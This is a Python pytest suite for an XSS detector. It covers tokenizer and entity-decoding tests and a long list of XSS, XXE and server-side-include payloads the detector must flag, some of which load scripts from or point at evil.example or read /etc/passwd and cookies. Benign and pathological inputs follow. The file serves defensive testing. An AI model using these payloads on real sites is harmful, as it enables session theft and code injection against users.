"""Tests for the tokenizer-based XSS detector (bastion.detect.html)."""

from __future__ import annotations

import time

import pytest

from bastion.detect.html import (
    ATTR,
    BOGUS,
    COMMENT,
    CTX_ATTR_DOUBLE,
    CTX_ATTR_SINGLE,
    CTX_ATTR_UNQUOTED,
    CTX_DATA,
    CTX_TAG,
    DOCTYPE,
    END_TAG,
    START_TAG,
    Token,
    decode_entities,
    is_xss,
    tokenize,
)


def kinds(value: str, context: int = CTX_DATA) -> list[tuple[str, str, str | None]]:
    return [(t.kind, t.name, t.value) for t in tokenize(value, context)]


# ---------------------------------------------------------------------------------------------
# Tokenizer states


class TestTokenizer:
    def test_text_only_yields_nothing(self) -> None:
        assert kinds("just some text, a < b and c > d") == []

    def test_lt_not_followed_by_letter_is_text(self) -> None:
        assert kinds("x <3 and <= and < b") == []

    def test_start_tag_and_attributes(self) -> None:
        assert kinds('<a href="x" title=\'y\' data-z=w hidden>t</a>') == [
            (START_TAG, "a", None),
            (ATTR, "href", "x"),
            (ATTR, "title", "y"),
            (ATTR, "data-z", "w"),
            (ATTR, "hidden", None),
            (END_TAG, "a", None),
        ]

    def test_tag_name_is_lowercased_and_ends_at_slash(self) -> None:
        assert kinds("<IMG/SRC=x>")[:2] == [(START_TAG, "img", None), (ATTR, "SRC", "x")]

    def test_spaces_around_equals(self) -> None:
        assert kinds("<a b = c>") == [(START_TAG, "a", None), (ATTR, "b", "c")]

    def test_quote_inside_unquoted_value_belongs_to_value(self) -> None:
        assert kinds("<a b=x'y\"z>") == [(START_TAG, "a", None), (ATTR, "b", "x'y\"z")]

    def test_attribute_after_quoted_value_without_space(self) -> None:
        assert kinds('<a b="1"c=2>') == [
            (START_TAG, "a", None),
            (ATTR, "b", "1"),
            (ATTR, "c", "2"),
        ]

    def test_equals_first_is_part_of_attribute_name(self) -> None:
        assert kinds("<a =b>") == [(START_TAG, "a", None), (ATTR, "=b", None)]

    def test_unterminated_tag_is_still_reported(self) -> None:
        assert kinds("<img src=x onerror=alert(1)") == [
            (START_TAG, "img", None),
            (ATTR, "src", "x"),
            (ATTR, "onerror", "alert(1)"),
        ]

    def test_comment_hides_markup(self) -> None:
        assert kinds("<!-- <script> -->") == [(COMMENT, " <script> ", None)]

    def test_abrupt_comment_ends(self) -> None:
        assert kinds("<!--><b>")[0] == (COMMENT, "", None)
        assert kinds("<!---><b>")[1] == (START_TAG, "b", None)
        assert kinds("<!-- x --!><b>")[1] == (START_TAG, "b", None)

    def test_bogus_comments(self) -> None:
        assert kinds("<?php x ?><b>") == [(BOGUS, "?php x ?", None), (START_TAG, "b", None)]
        assert kinds("<!x y><b>") == [(BOGUS, "x y", None), (START_TAG, "b", None)]
        assert kinds("</ x><b>") == [(BOGUS, " x", None), (START_TAG, "b", None)]

    def test_bogus_comment_swallows_up_to_first_gt(self) -> None:
        toks = kinds('<? foo="><script>alert(1)</script>">')
        assert toks[0] == (BOGUS, '? foo="', None)
        assert toks[1] == (START_TAG, "script", None)

    def test_doctype_with_internal_subset(self) -> None:
        toks = kinds('<!DOCTYPE x [<!ENTITY e SYSTEM "http://h/">]><y/>')
        assert toks[0][0] == DOCTYPE
        assert "<!ENTITY" in toks[0][1]
        assert toks[1] == (START_TAG, "y", None)

    def test_end_tag_attributes_are_ignored(self) -> None:
        assert kinds("</a onclick=x>") == [(END_TAG, "a", None)]

    def test_context_unquoted_attribute_value(self) -> None:
        assert kinds("x onmouseover=alert(1)", CTX_ATTR_UNQUOTED) == [
            (ATTR, "onmouseover", "alert(1)")
        ]
        assert kinds("x><b>", CTX_ATTR_UNQUOTED) == [(START_TAG, "b", None)]
        assert kinds("no-break", CTX_ATTR_UNQUOTED) == []

    def test_context_quoted_attribute_values(self) -> None:
        assert kinds("x' onfocus='y", CTX_ATTR_SINGLE) == [(ATTR, "onfocus", "y")]
        assert kinds('x" onfocus="y', CTX_ATTR_DOUBLE) == [(ATTR, "onfocus", "y")]
        # The other quote does not close the value.
        assert kinds("x\" onfocus=\"y", CTX_ATTR_SINGLE) == []
        assert kinds('"><i>', CTX_ATTR_DOUBLE) == [(START_TAG, "i", None)]

    def test_context_attribute_name_position(self) -> None:
        assert kinds("autofocus onfocus=alert(1)", CTX_TAG) == [
            (ATTR, "autofocus", None),
            (ATTR, "onfocus", "alert(1)"),
        ]

    def test_token_carries_enclosing_tag(self) -> None:
        toks = list(tokenize("<form action=x>"))
        assert toks[1] == Token(ATTR, "action", "x", 6, "form")


class TestEntities:
    @pytest.mark.parametrize(
        ("raw", "decoded"),
        [
            ("&#106;", "j"),
            ("&#x6A;", "j"),
            ("&#X6a", "j"),
            ("&#0000106", "j"),
            ("&colon;", ":"),
            ("&Tab;", "\t"),
            ("&NewLine;", "\n"),
            ("&lt;b&gt;", "<b>"),
            ("&lt", "<"),
            ("&amp;amp;", "&amp;"),
            ("&unknown;", "&unknown;"),
            ("a & b", "a & b"),
            ("&#xD800;", "\ufffd"),
            ("&#99999999999999999999;", "\ufffd"),
            ("&#", "&#"),
        ],
    )
    def test_decode(self, raw: str, decoded: str) -> None:
        assert decode_entities(raw) == decoded


# ---------------------------------------------------------------------------------------------
# Attacks


ATTACKS = [
    # tags
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<script/src=data:,alert(1)>",
    "x<script",
    "<iframe src=//evil.example>",
    "<embed src=x.swf>",
    "<object data=javascript:alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<style>@import 'x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=p>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<x onbeforesomethingnew=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    # URL attributes, obfuscated schemes
    '<a href="javascript:alert(1)">x</a>',
    "<a href=JaVaScRiPt:alert(1)>",
    "<a href='&#106;avascript:alert(1)'>",
    "<a href='&#x6A&#x61vascript:alert(1)'>",
    "<a href='java&Tab;script:alert(1)'>",
    "<a href='java\tscript:alert(1)'>",
    "<a href='  javascript:alert(1)'>",
    "<a href='javascript&colon;alert(1)'>",
    "<a href=vbscript:msgbox(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>",
    "<button formaction=javascript:alert(1)>x",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    # CSS
    "<div style='width:expression(alert(1))'>",
    "<div style='x:ex/**/pression(alert(1))'>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div style='-moz-binding:url(//evil.example/x.xml#x)'>",
    "style=x:expression(alert(1))",
    # breaking out of attribute values
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x onmouseover=alert(1)",
    " autofocus onfocus=alert(1)//",
    "onerror=alert(1)>",
    # comments, declarations, parser differentials
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- x --><img src=x onerror=alert(1)>",
    "<p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=`x`onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/'>]><x>&e;</x>",
    "<!ENTITY % e SYSTEM 'http://evil.example/'>",
    "<?import namespace=t implementation=#default#time2>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "'\"<\x00script>alert(1)</script>",
    # bare URL / JavaScript contexts
    "javascript:alert(1)",
    "javascript:void(0)",
    "javascript: alert(1)",
    "q=javascript:alert(1)",
    "  JavaScript:alert(document.domain)",
    "java&#x09;script:x",
    "data:text/html,<script>alert(1)</script>",
    "';alert(1)//",
    '";alert(document.cookie);//',
    "'-alert(1)-'",
    '"+alert(1)+"',
    "\\';top['al'+'ert'](1)//",
    "alert(1)",
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)',0)",
    "new Function('alert(1)')()",
    "window.location='http://evil.example/'",
    "document.cookie",
    "(document)['cookie']",
    "self['alert'](1)",
    "document/**/.cookie",
    "[].map.call`${eval}`",
    "{{constructor.constructor('alert(1)')()}}",
    "(![]+[])[+!+[]]",
    # server side includes, XML external resources
    '<!--#exec cmd="/bin/id"-->',
    "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
    "xsi:schemaLocation='http://a.example/ http://evil.example/x.xsd'>",
    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></x>",
    "foo!ENTITY % bar SYSTEM 'http://evil.example/'",
    "<xml id=x src=test.htc></xml>",
    "<:vmlframe src=x.fml>",
    # attribute injection without a payload of its own
    "<button formaction=//evil.example>go",
    "'formaction=",
    "<x onwebkitplaybacktargetavailabilitychanged=alert(1)>",
    "x=x:url(javascript:alert(1))",
    # markup hidden in attribute values of submitted markup (XML consumers, sanitizers)
    "<a probe='&lt;script&gt;alert(1)&lt;/script&gt;'></a>",
    "<root><a probe='  onload= '></a></root>",
    # JavaScript variants
    "'-(alert)(1)-'",
    "(0,alert)(1)",
    "alert.call(null,1)",
    "import {x} from '//evil.example/x.js'",
    "import('//evil.example/x.js')",
    # encodings a back end may undo
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
    "\\xbcscript\\xbealert(1)\\xbc/script\\xbe",
    "%2bADw-script%2bAD4-alert(1)%2bADw-/script%2bAD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("payload", ATTACKS)
def test_attack_is_flagged(payload: str) -> None:
    assert is_xss(payload) is not None


@pytest.mark.parametrize(
    ("payload", "fragment"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "onerror="),
        ('<a href="javascript:alert(1)">', "javascript:"),
        ("<a href='&#106;avascript:alert(1)'>", "javascript:"),
        ('" onmouseover="alert(1)', "onmouseover="),
        ("<div style='width:expression(alert(1))'>", "expression("),
    ],
)
def test_reports_offending_fragment(payload: str, fragment: str) -> None:
    assert is_xss(payload) == fragment


# ---------------------------------------------------------------------------------------------
# Benign input


BENIGN = [
    "",
    "hello",
    "en-US,en;q=0.9",
    "a3f5c9e1b2d4f6a8c0e2b4d6f8a0c2e4",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "The quick brown fox jumps over the lazy dog.",
    "It's a beautiful day (finally), isn't it?",
    'She said "hello (world)"; then she left.',
    # math and comparisons
    "a < b and c > d",
    "x<3",
    "if a<b then c>d",
    "for (i=0;i<n;i++) sum += a[i];",
    "p<0.05",
    "std::vector<int> v; Map<String, Object> m;",
    "#include <stdio.h>",
    # emoticons
    "<3",
    "I <3 this!",
    "</3",
    ">_<",
    "<(^_^)>",
    # e-mail addresses
    "John Doe <john.doe@example.com>",
    '"Jane" <jane@example.org>, Support <support@example.com>',
    # many languages and scripts
    "Bonjour, je m'appelle Zoé. C'est l'été !",
    "Größe: 42 (etwa). Das ist 'ne gute Idee.",
    "¿Dónde está la biblioteca? ¡Aquí!",
    "Привет, как дела? Всё хорошо (спасибо).",
    "你好，今天天气怎么样？我喜欢吃苹果（很甜）。",
    "日本語のテキストです。「こんにちは」と言った。",
    "안녕하세요! 반갑습니다 (처음 뵙겠습니다).",
    "مرحبا، كيف حالك؟",
    "שלום, מה שלומך?",
    "नमस्ते, आप कैसे हैं?",
    # words that are also tag, attribute or API names
    "The alert was raised at noon; please confirm your email.",
    "Open the window and read the document.",
    "javascript: the good parts",
    "JavaScript: Alert(s) are shown (2008)",
    "https://www.google.com/search?q=javascript:alert",
    "Learn JavaScript: a beginner's guide",
    "what is document.cookie?",
    "how to use onclick in react",
    "online=true",
    "onion=3",
    "style=modern",
    "Regular expression (regex) tutorial",
    "alert(s) were sent",
    "git cat-file (-t | -s) <object>",
    "git range-diff <base> <old-tip> <new-tip>",
    # rich-text editor output
    '<p><b>bold</b> <a href="https://example.com">link</a></p>',
    '<p><span style="color: rgb(255, 0, 0); font-weight: bold">red</span></p>',
    '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">x</a>',
    '<img src="https://example.com/a.png" alt="A picture" width="200">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    "<ul><li>one</li><li>two</li></ul><blockquote>q</blockquote><pre>x &lt; y</pre>",
    '<a href="mailto:a@example.com">mail</a> <a href="#top">top</a>',
    '<svg width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>',
    "<p>Text<!-- hidden --></p>",
    # markdown, JSON, URLs
    "**bold** and _italic_ [link](https://example.com) ![](https://example.com/i.png)",
    "```python\nprint('hi')\n```",
    '{"name": "John", "age": 30, "tags": ["a", "b"], "html": "<p>hi</p>"}',
    '{"url": "https://example.com/a?b=c", "expr": "x == y"}',
    "https://example.com/path/to/page?x=1&y=2#frag",
    "https://en.wikipedia.org/wiki/Parenthesis_(disambiguation)",
    "https://example.com/?onload=1",
    "mailto:someone@example.com?subject=Hi",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
    "/search?q=top+10+self+help+books",
    "Tom & Jerry; R&D; Q&A; AT&T",
    # base64 tokens can end in '/on<letters>=' - not an event handler
    "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yaw/onafe=",
    "dGhlIG9ubG9hZA/onload",
    "AXF3g7TordYR8K+0dZrp/O1MhVxVL009083HTIvcA6WBqSr0PTwsm8KmWNihWWFoVa7A5bzRcDU/onrtg==",
    "OnfZowXJyqBRDoJnMg==",
    "x/onload==",
    "'2P#3g;^f-S*zMubhOM+!+;`;F%(7<.0lp",
    "def rmtree(path, ignore_errors=False, onerror=auto_chmod):",
    "self.write(', '.join(self.parent.names))",
    "for i, node in enumerate(self.parent.children): print(self['status'])",
    "Settings --> Privacy --> Cookies",
    '<meta name="referrer" content="no-referrer"> is the tag to remove',
    "git notes add [<options>] [<object>]",
    "If you're willing to import (and perhaps wait), it is cheaper.",
    "¼ cup sugar, ¾ cup flour",
    "Escape it as \\x41 or \\u0041 in JS",
    "<xml><item>1</item></xml>",
    '<?xml version="1.0"?><order><id>5</id><note>a &lt; b</note></order>',
    "C:\\Program Files\\App",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_is_not_flagged(value: str) -> None:
    assert is_xss(value) is None


# ---------------------------------------------------------------------------------------------
# Hostile input: no exceptions, bounded work


HOSTILE = [
    "<" * 4096,
    "<a " * 1365,
    "'" * 4096,
    "\x00" * 4096,
    "\x00<" * 2048,
    "\ud800<s" * 1000,
    "&#" * 2048,
    "&#" + "9" * 4000,
    "<!--" * 1024,
    "<!" * 2048,
    "<a b='\" =`&#x3c;" * 256,
    '"\';(' * 1024,
    "document." * 455,
    "on=" * 1365,
    "\uff1c" * 4096,
    "+ADw-" * 800,
    "+ADw" + "\udcff" * 10,
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_input_does_not_raise(value: str) -> None:
    is_xss(value)


def test_hostile_input_scales_linearly() -> None:
    """Doubling a pathological input must not quadruple the work (loose ratio, no wall-clock
    threshold: the ratio of two measurements is robust to machine speed)."""

    def cost(n: int) -> float:
        value = ("<a b='\" =`&#x3c;" * n)[: n * 8]
        best = float("inf")
        for _ in range(3):
            start = time.perf_counter()
            is_xss(value)
            best = min(best, time.perf_counter() - start)
        return best

    small, large = cost(256), cost(1024)
    assert large < small * 12  # 4x the input; quadratic would be ~16x


def test_surrogates_and_controls_in_attack() -> None:
    assert is_xss("\ud800<script>\udfff") == "<script"
    assert is_xss("<a href='java\x00script:alert(1)'>") == "javascript:"
